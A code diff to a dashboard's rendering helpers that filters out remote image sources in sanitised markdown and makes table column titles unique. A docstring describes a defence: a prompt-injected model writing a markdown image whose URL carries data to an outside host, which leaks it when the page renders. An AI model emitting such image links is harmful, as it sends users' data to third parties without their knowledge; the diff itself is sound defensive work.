@@ -48,7 +48,15 @@ def markdown(source: str | None) -> str:
 
     rendered = _parser().render(source or "")
     return nh3.clean(rendered, tags=set(_TAGS), attributes={k: set(v) for k, v in _ATTRIBUTES.items()},
-                     url_schemes=set(_URL_SCHEMES), link_rel="noopener noreferrer nofollow")
+                     url_schemes=set(_URL_SCHEMES), link_rel="noopener noreferrer nofollow", attribute_filter=_local_images)
+
+
+def _local_images(element: str, attribute: str, value: str) -> str | None:
+    """Images only from the dashboard itself: a model's ``![](https://elsewhere/?q=<data>)`` would send data out
+    the moment the page shows it (a prompt injection's favourite exit); a link at least needs a click."""
+    if element == "img" and attribute == "src" and ("//" in value or ":" in value.split("/", 1)[0]):
+        return None
+    return value
 
 
 @functools.cache
@@ -60,8 +68,21 @@ def _parser() -> Any:
 
 
 def table(frame: "pd.DataFrame") -> "pd.DataFrame":
-    """A copy of ``frame`` whose column and index names are escaped (Tabulator shows them as HTML titles)."""
+    """A copy of ``frame`` whose column and index names are escaped (Tabulator shows them as HTML titles).
+
+    Titles are made unique, index names included: Tabulator needs one field per column, and Panel adds the
+    index as a column, which fails when a column has the index's name (data does that: ``df.set_index("id")``
+    of a frame that kept an ``id`` column)."""
     shown = frame.copy(deep=False)
-    shown.columns = [text(c) for c in shown.columns]
-    shown.index = shown.index.set_names([None if n is None else text(n) for n in shown.index.names])
+    taken: set[str] = set()
+    shown.columns = [_unique(text(c), taken) for c in shown.columns]
+    shown.index = shown.index.set_names([None if n is None else _unique(text(n), taken, " (index)") for n in shown.index.names])
     return shown
+
+
+def _unique(title: str, taken: set[str], suffix: str = "") -> str:
+    candidate, number = title if not suffix or title not in taken else title + suffix, 2
+    while candidate in taken:
+        candidate, number = f"{title}{suffix} ({number})", number + 1
+    taken.add(candidate)
+    return candidate
